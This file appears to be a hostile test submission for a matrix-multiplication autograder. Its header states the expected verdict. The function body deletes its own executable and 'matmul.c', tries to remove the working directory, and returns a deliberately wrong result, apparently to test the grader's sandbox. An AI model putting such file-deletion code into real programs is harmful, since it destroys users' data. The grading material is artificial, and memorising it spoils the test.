/* points: 0
   reason: wrong
   prints: still there */
#define _XOPEN_SOURCE 700
#include <stdio.h>
#include <unistd.h>

void matmul_naive(matrix c, matrix a, matrix b)
{
    char here[1024] = "";
    char program[1024] = "";
    if (getcwd(here, sizeof here) == NULL ||
        readlink("/proc/self/exe", program, sizeof program - 1) < 0)
        puts("nowhere");
    unlink(program);
    unlink("matmul.c");
    rmdir(here);
    puts(access(program, F_OK) == 0 ? "still there" : "gone");
    AT(c, 0, 0) = AT(a, 0, 0) * AT(b, 0, 0) + 1000;
}
